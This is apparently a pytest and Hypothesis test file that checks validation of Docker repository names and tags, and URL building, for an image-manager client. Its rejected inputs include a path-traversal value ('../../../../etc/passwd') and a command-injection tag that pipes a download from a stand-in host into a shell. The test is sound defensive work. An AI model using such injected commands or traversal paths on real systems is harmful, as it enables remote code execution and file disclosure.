"""Repository-name rules: the Docker grammar, full match, and one URL per valid name."""

from urllib.parse import unquote, urlsplit

import pytest
import requests
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from imgdash.imagemanager import (
    ImageManagerClient,
    ImageManagerError,
    InvalidRepositoryName,
    is_valid_repository_name,
    namespace_of,
    repository_scope,
    repository_url,
    short_name_of,
    validate_repository_name,
)
from imgdash.imagemanager.names import NAME_PATTERN

BASE = "https://master.example:8443/image-manager/api/v1"
PREFIX = BASE + "/repositories/"

VALID = [
    "default/alpine",
    "team-a/tools/builder",
    "team-c/data__loader",
    "a",
    "a/b",
    "ibmcom/icp-inception",
    "ns/name.with.dots",
    "ns/multi---dash",
    "ns/under_score",
    "0/9",
    "a" * 255,
    "/".join(["ab"] * 85),  # 254 characters, many segments
]

INVALID = [
    "",
    "Default/alpine",  # upper case
    "default/Alpine",
    "/default/alpine",
    "default/alpine/",
    "default//alpine",
    "default/../team-b/app",
    "default/./alpine",
    "..",
    "default/alpine?x=1",
    "default/alpine#frag",
    "default/alpine%2f",
    "default/al pine",
    "default/alpine\n",
    "\ndefault/alpine",
    "default/alpine:latest",
    "default/alpine@sha256:abc",
    "default/-alpine",
    "default/alpine-",
    "default/alpine_",
    "default/.alpine",
    "default/al___pine",  # three underscores is not a separator
    "default/al._pine",
    "default\\alpine",
    "défault/alpine",
    "default/\uff41lpine",  # full-width a
    "default/alp\u0131ne",  # dotless i
    "default/alpine\u200b",  # zero-width space
    "a" * 256,
    "/".join(["ab"] * 86),  # 257 characters
]


@pytest.mark.parametrize("name", VALID)
def test_it_accepts_docker_repository_paths(name):
    assert validate_repository_name(name) == name
    assert is_valid_repository_name(name)


@pytest.mark.parametrize("name", INVALID)
def test_it_rejects_everything_else_with_a_readable_error(name):
    with pytest.raises(InvalidRepositoryName) as info:
        validate_repository_name(name)
    err = info.value
    assert isinstance(err, ValueError)
    assert isinstance(err, ImageManagerError)
    assert "not a valid repository name" in str(err)
    assert not is_valid_repository_name(name)


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("", "empty"),
        ("Team-a/app", "upper-case"),
        ("team-a/app/", "starts or ends with '/'"),
        ("team-a//app", "empty path segment"),
        ("team-a/app?x", "'?'"),
        ("a" * 300, "300 characters long; the limit is 255"),
        ("team-a/-app", "start and end with a letter or digit"),
    ],
)
def test_it_says_why_a_name_is_rejected(name, reason):
    with pytest.raises(InvalidRepositoryName, match=None) as info:
        validate_repository_name(name)
    assert reason in info.value.message


def test_it_rejects_non_text():
    for value in (None, 42, b"default/alpine", ["default/alpine"]):
        with pytest.raises(InvalidRepositoryName, match="must be text"):
            validate_repository_name(value)


def test_it_builds_the_url_on_the_fixed_prefix():
    assert repository_url(BASE, "team-a/tools/builder") == PREFIX + "team-a/tools/builder"
    assert repository_url(BASE + "/", "default/alpine") == PREFIX + "default/alpine"


def test_it_never_builds_a_url_for_an_invalid_name():
    with pytest.raises(InvalidRepositoryName):
        repository_url(BASE, "../../../../etc/passwd")


def test_it_splits_namespace_and_short_name():
    assert namespace_of("team-a/tools/builder") == "team-a"
    assert short_name_of("team-a/tools/builder") == "tools/builder"
    assert namespace_of("alpine") == ""
    assert short_name_of("alpine") == "alpine"


def test_it_builds_registry_scopes_for_valid_names_only():
    assert repository_scope("team-a/app") == "repository:team-a/app:pull,push"
    assert repository_scope("team-a/app", "pull") == "repository:team-a/app:pull"
    with pytest.raises(InvalidRepositoryName):
        repository_scope("team-a/app:*")
    with pytest.raises(ValueError, match="Unknown registry actions"):
        repository_scope("team-a/app", "pull,rm")


# -- properties ------------------------------------------------------------------------

_tokens = {}


def _admin_token(server):
    # Signing a token per Hypothesis example would dominate the run time.
    if server not in _tokens:
        _tokens[server] = server.issue_id_token("admin")
    return _tokens[server]


alphanumerics = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789", min_size=1, max_size=8)
separators = st.sampled_from([".", "_", "__", "-", "---"])
components = st.builds(
    lambda first, rest: first + "".join(sep + part for sep, part in rest),
    alphanumerics,
    st.lists(st.tuples(separators, alphanumerics), max_size=3),
)
# Built from the grammar's parts: st.from_regex(NAME_PATTERN) works too, but slowly.
valid_names = st.lists(components, min_size=1, max_size=5).map("/".join)
nasty = st.sampled_from(
    [
        *("/", "//", "..", ".", "%2F", "%", "?", "#", " ", "\n", "\t", "\x00", "A", ":", "@"),
        *("\\", "\u0131", "\uff41", "_-", "___", "\u200b", "\u00e9", "-", "_"),
    ]
)


@st.composite
def near_valid_names(draw):
    """A valid name with something spliced in: most are invalid, some still valid."""
    name = draw(valid_names)
    at = draw(st.integers(0, len(name)))
    return name[:at] + draw(nasty) + name[at:]


any_names = st.one_of(st.text(), st.text(alphabet="ab-_./%?#A "), valid_names, near_valid_names())


@settings(max_examples=25, deadline=None)
@given(st.from_regex(NAME_PATTERN, fullmatch=True))
def test_property_the_pattern_and_the_validator_agree(name):
    assert is_valid_repository_name(name) == (len(name) <= 255)


@settings(deadline=None)  # a busy CI machine must not turn slowness into failures
@given(any_names)
def test_property_a_name_is_accepted_exactly_when_it_yields_one_clean_url(name):
    try:
        checked = validate_repository_name(name)
    except InvalidRepositoryName:
        with pytest.raises(InvalidRepositoryName):
            repository_url(BASE, name)
        return
    assert checked == name
    url = repository_url(BASE, name)
    assert url == repository_url(BASE, name)  # one URL, always the same
    assert url.startswith(PREFIX)
    assert unquote(url[len(PREFIX) :]) == name
    parts = urlsplit(url)
    assert (parts.scheme, parts.netloc, parts.query, parts.fragment) == (
        "https",
        "master.example:8443",
        "",
        "",
    )
    assert parts.path == "/image-manager/api/v1/repositories/" + name
    # What requests would put on the wire is that very URL.
    assert requests.Request("GET", url).prepare().url == url


@settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(st.one_of(st.text(), near_valid_names()))
def test_property_an_invalid_name_never_reaches_the_cluster(emulator, name):
    if is_valid_repository_name(name):
        return
    emulator.requests.clear()
    with ImageManagerClient(emulator.api_url, _admin_token(emulator)) as client:
        for call in (
            lambda: client.get_repository(name),
            lambda: client.set_scope(name, "global"),
            lambda: client.delete_repository(name),
        ):
            with pytest.raises(InvalidRepositoryName):
                call()
    assert len(emulator.requests) == 0


@settings(
    max_examples=30,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(valid_names)
def test_property_a_valid_name_reaches_the_cluster_as_exactly_that_path(emulator, name):
    emulator.requests.clear()
    with ImageManagerClient(emulator.api_url, _admin_token(emulator)) as client:
        try:
            client.get_repository(name)
        except ImageManagerError as err:
            assert err.status == 404
    seen = [(entry.method, entry.path) for entry in emulator.requests]
    assert seen == [("GET", "/image-manager/api/v1/repositories/" + name)]


@pytest.mark.parametrize(
    "tag", ["latest", "1.0", "v1.2.3-rc.1", "_x", "A_b-C.9", "x" * 128, "9" + "." * 127]
)
def test_a_docker_tag_is_valid(tag):
    from imgdash.imagemanager import is_valid_tag

    assert is_valid_tag(tag)


@pytest.mark.parametrize(
    "tag",
    ["", ".x", "-x", "x" * 129, "v1$(curl evil|sh)", "a b", "a;b", "latest\n", "ü", "a/b", None],
)
def test_anything_else_is_not_a_tag(tag):
    from imgdash.imagemanager import is_valid_tag

    assert not is_valid_tag(tag)
